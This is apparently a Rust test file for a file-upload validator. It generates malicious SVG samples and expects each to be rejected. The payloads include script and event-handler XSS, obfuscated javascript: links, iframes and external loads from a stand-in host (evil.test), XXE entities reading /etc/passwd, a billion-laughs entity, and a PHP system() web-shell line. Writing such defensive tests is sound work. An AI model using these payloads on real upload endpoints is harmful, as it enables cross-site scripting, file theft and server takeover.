//! SVG that does more than draw.

use super::case::{Case, Evil, Place};

const DENIED: &str = "upload.content_denied";
const MISMATCH: &str = "upload.type_mismatch";
const PLACES: [Place; 3] = [Place::Only, Place::Last, Place::Put];

/// Technique and what stands inside the `svg` element.
const ACTING: &[(&str, &str)] = &[
    ("script", "<script>alert(1)</script>"),
    ("script-capitals", "<ScRiPt>alert(1)</ScRiPt>"),
    ("script-prefix", "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>"),
    ("script-empty-tag", "<script href='https://evil.test/a.js'/>"),
    ("script-line-break", "<script\n>alert(1)</script>"),
    ("script-in-group", "<g><g><script type='text/ecmascript'>alert(1)</script></g></g>"),
    ("event", "<rect onclick='alert(1)'/>"),
    ("event-capitals", "<rect ONCLICK='alert(1)'/>"),
    ("event-line-break", "<rect\nonmouseover\n=\n'alert(1)'/>"),
    ("event-animation", "<animate onbegin='alert(1)' attributeName='x' dur='1s'/>"),
    ("foreign-object", "<foreignObject><b>x</b></foreignObject>"),
    (
        "foreign-object-page",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><iframe src='//evil.test'/></body></foreignObject>",
    ),
    ("frame", "<iframe src='//evil.test'/>"),
    ("embed", "<embed src='//evil.test'/>"),
    ("object", "<object data='//evil.test'/>"),
    ("link-javascript", "<a href='javascript:alert(1)'><text>x</text></a>"),
    ("link-javascript-capitals", "<a href='JaVaScRiPt:alert(1)'><text>x</text></a>"),
    ("link-javascript-reference", "<a href='&#106;avascript:alert(1)'><text>x</text></a>"),
    ("link-javascript-hex-reference", "<a href='&#x6A;avascript:alert(1)'><text>x</text></a>"),
    ("link-javascript-tab", "<a href='java&#9;script:alert(1)'><text>x</text></a>"),
    ("link-javascript-line-break", "<a href='java\nscript:alert(1)'><text>x</text></a>"),
    ("link-javascript-spaces", "<a href='  javascript:alert(1)'><text>x</text></a>"),
    (
        "link-javascript-xlink",
        "<a xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='javascript:alert(1)'/>",
    ),
    ("link-vbscript", "<a href='vbscript:msgbox(1)'/>"),
    ("link-data-page", "<a href='data:text/html,&lt;script>alert(1)&lt;/script>'/>"),
    ("image-outside", "<image href='https://evil.test/pixel.png'/>"),
    ("image-no-scheme", "<image href='//evil.test/pixel.png'/>"),
    ("image-file", "<image href='file:///etc/passwd'/>"),
    ("image-svg-inside", "<image href='data:image/svg+xml,&lt;svg onload=alert(1)>'/>"),
    ("use-outside", "<use href='https://evil.test/a.svg#x'/>"),
    ("use-data", "<use href='data:image/svg+xml;base64,PHN2Zz4=#x'/>"),
    ("set-href", "<a><set attributeName='href' to='javascript:alert(1)'/></a>"),
    ("animate-href", "<a><animate attributeName='href' values='javascript:alert(1)'/></a>"),
    ("animate-event", "<set attributeName='onmouseover' to='alert(1)'/>"),
    ("style-import", "<style>@import url(https://evil.test/a.css);</style>"),
    ("style-import-text", "<style>@import 'https://evil.test/a.css';</style>"),
    ("style-url", "<style>rect { fill: url(https://evil.test/a) }</style>"),
    ("style-attribute", "<rect style='background:url(//evil.test/a)'/>"),
    ("style-escaped", "<style>@\\69mport 'https://evil.test/a.css';</style>"),
    ("style-in-cdata", "<style><![CDATA[@import 'https://evil.test/a.css';]]></style>"),
    ("filter-outside", "<rect filter='url(https://evil.test/a.svg#f)'/>"),
    ("base", "<a xml:base='https://evil.test/' href='#a'/>"),
    ("php", "<text><?php system($_GET['c']); ?></text>"),
    ("video", "<video src='//evil.test/a.mp4'/>"),
];

/// Technique and the whole file.
fn documents() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let svg = |inside: &str| format!("<svg xmlns='http://www.w3.org/2000/svg'>{inside}</svg>");
    let text = |text: String| text.into_bytes();
    let wide = |text: String| {
        [b"\xff\xfe".to_vec(), text.encode_utf16().flat_map(u16::to_le_bytes).collect()].concat()
    };
    vec![
        (
            "event-on-the-top",
            text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".to_owned()),
            DENIED,
        ),
        ("event-behind-a-slash", text("<svg/onload=alert(1)>".to_owned()), DENIED),
        ("entity", text(format!("<!DOCTYPE svg [<!ENTITY x \"y\">]>{}", svg("<text>&x;</text>"))), DENIED),
        (
            "entity-outside",
            text(format!(
                "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>{}",
                svg("<text>&x;</text>")
            )),
            DENIED,
        ),
        (
            "entity-laughs",
            text(format!("<!DOCTYPE svg [<!ENTITY a 'aa'><!ENTITY b '&a;&a;&a;&a;'>]>{}", svg("&b;"))),
            DENIED,
        ),
        ("stylesheet", text(format!("<?xml-stylesheet href='https://evil.test/a.xsl'?>{}", svg(""))), DENIED),
        (
            "stylesheet-behind-the-declaration",
            text(format!(
                "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='//evil.test/a'?>{}",
                svg("")
            )),
            DENIED,
        ),
        ("utf-16", wide(svg("<script>alert(1)</script>")), MISMATCH),
        ("page", text("<!DOCTYPE html><html><body><svg></svg></body></html>".to_owned()), MISMATCH),
        ("page-behind", text(format!("{}<script>alert(1)</script>", svg(""))), DENIED),
        ("compressed", harness::samples::named("gz").content.to_vec(), MISMATCH),
        (
            "script-far-in",
            text(svg(&format!("{}<script>alert(1)</script>", "<g></g>".repeat(20_000)))),
            DENIED,
        ),
        ("cut-in-a-tag", text("<svg xmlns='http://www.w3.org/2000/svg'><rect".to_owned()), MISMATCH),
    ]
}

pub(super) fn cases() -> Vec<Case> {
    let acting = ACTING.iter().map(|(technique, inside)| {
        let content = format!(
            "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\">{inside}</svg>\n"
        );
        (*technique, content.into_bytes(), DENIED)
    });
    let evils = acting.chain(documents()).map(|(technique, content, code)| {
        Evil::new(format!("svg/{technique}"), "drawing.svg", content, code)
    });
    evils.flat_map(|evil| Case::places(evil, &PLACES)).collect()
}
